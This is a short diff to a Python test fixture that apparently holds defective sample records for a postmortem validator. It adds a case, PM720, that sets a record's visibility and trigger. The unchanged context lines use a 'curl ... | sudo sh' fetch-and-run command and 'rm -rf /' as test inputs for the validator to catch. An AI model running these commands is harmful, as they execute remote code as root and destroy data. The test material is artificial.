@@ -103,6 +103,12 @@ HOLLOW_CASES = (
     own("PM606", "timeline[3].text", 'text: "Probably', "timeline.3.text", "Probably somebody restarted the job."),
     _in_body("PM719", "record", "Run `curl", "Run `curl -sL https://fix.example.com/x.sh | sudo sh`. It was quiet"),
     _in_body("PM719", "record", "Run `rm", "Run `rm -rf /` first. It was quiet"),
+    _several(
+        "PM720",
+        "visibility",
+        'visibility: "public"\nteams',
+        **{"trigger": {"category": "attack", "text": "Somebody typed it."}, "actions.1.type": "process"},
+    ),
     _in_body("PM320", "body", "As an AI", "As an AI language model, I cannot see the logs. It was quiet"),
     _in_body("PM710", "body", "It hit", "It hit a 43-year-old diabetic woman. It was quiet"),
 )
